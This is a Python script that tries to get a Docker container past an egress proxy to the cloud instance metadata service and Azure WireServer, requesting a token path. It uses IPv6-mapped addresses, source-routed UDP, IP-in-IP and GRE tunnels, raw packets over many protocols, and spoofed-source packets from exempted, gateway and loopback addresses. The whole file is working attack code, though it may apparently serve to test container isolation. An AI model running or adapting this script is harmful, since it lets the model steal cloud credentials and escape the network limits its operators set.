"""Tries every way past the proxy that a container with Docker's default rights has, and prints what came of it as JSON.

Usage: past-the-proxy.py <gateway> <address that is exempted> <path of a token request>
"""
import json
import socket
import struct
import sys

IMDS = "169.254.169.254"
WIRESERVER = "168.63.129.16"
GATEWAY, EXEMPTED, TOKEN_PATH = sys.argv[1:4]
REQUEST = f"GET {TOKEN_PATH} HTTP/1.1\r\nHost: {IMDS}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode()
outcomes = {}


def attempt(name):
    def run(function):
        try:
            outcomes[name] = function()
        except OSError as error:
            outcomes[name] = error.strerror or type(error).__name__
    return run


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source, destination, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp_syn(source, destination, port):
    segment = struct.pack("!HHLLBBHHH", 40000, port, 1, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def udp_datagram(port, payload=b"x"):
    return struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload


def ask(family, address, port):
    def run():
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect((address, port))
            connection.sendall(REQUEST)
            return connection.recv(200).split(b"\r\n")[0].decode("latin1")
    return run


def send_raw(destination, packet):
    def run():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            raw.sendto(packet, (destination, 0))
        return "sent"
    return run


def send_udp(destination, port, options=b"", size=1):
    def run():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            if options:
                udp.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
            udp.sendto(b"x" * size, (destination, port))
        return "sent"
    return run


OWN = socket.gethostbyname(socket.gethostname())
for port in (80, 443, 8080, 32526):
    attempt(f"tcp {IMDS}:{port}")(ask(socket.AF_INET, IMDS, port))
for port in (80, 32526):
    attempt(f"tcp {WIRESERVER}:{port}")(ask(socket.AF_INET, WIRESERVER, port))
for address in (f"::ffff:{IMDS}", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"):
    for port in (80, 8080):
        attempt(f"tcp [{address}]:{port}")(ask(socket.AF_INET6, address, port))
for port in (53, 80, 5000):
    attempt(f"udp {IMDS}:{port}")(send_udp(IMDS, port))
attempt("udp in fragments")(send_udp(IMDS, 80, size=3000))
for kind, number in (("loose", 131), ("strict", 137)):
    route = bytes([number, 7, 4]) + socket.inet_aton(GATEWAY) + b"\0"
    attempt(f"udp by a {kind} source route")(send_udp(IMDS, 80, options=route))
attempt("icmp")(send_raw(IMDS, ip_packet(OWN, IMDS, 1, struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1))))
for protocol in (2, 4, 33, 41, 47, 50, 51, 89, 132, 136, 255):
    attempt(f"ip protocol {protocol}")(send_raw(IMDS, ip_packet(OWN, IMDS, protocol, b"\0" * 16)))
inner = ip_packet(OWN, IMDS, 17, udp_datagram(80))
attempt("ip in ip to the gateway")(send_raw(GATEWAY, ip_packet(OWN, GATEWAY, 4, inner)))
attempt("ip in gre to the gateway")(send_raw(GATEWAY, ip_packet(OWN, GATEWAY, 47, struct.pack("!HH", 0, 0x800) + inner)))
for source in (EXEMPTED, GATEWAY, "10.0.0.4", "10.0.0.1", "127.0.0.1", "0.0.0.0", IMDS):
    for port in (80, 8080):
        packet = ip_packet(source, IMDS, 6, tcp_syn(source, IMDS, port))
        attempt(f"tcp to {port} from {source}")(send_raw(IMDS, packet))
    attempt(f"udp from {source}")(send_raw(IMDS, ip_packet(source, IMDS, 17, udp_datagram(80))))
    packet = ip_packet(source, WIRESERVER, 6, tcp_syn(source, WIRESERVER, 80))
    attempt(f"tcp to WireServer from {source}")(send_raw(WIRESERVER, packet))
attempt("tcp to the proxy itself")(ask(socket.AF_INET, EXEMPTED, 80))
print(json.dumps(outcomes))
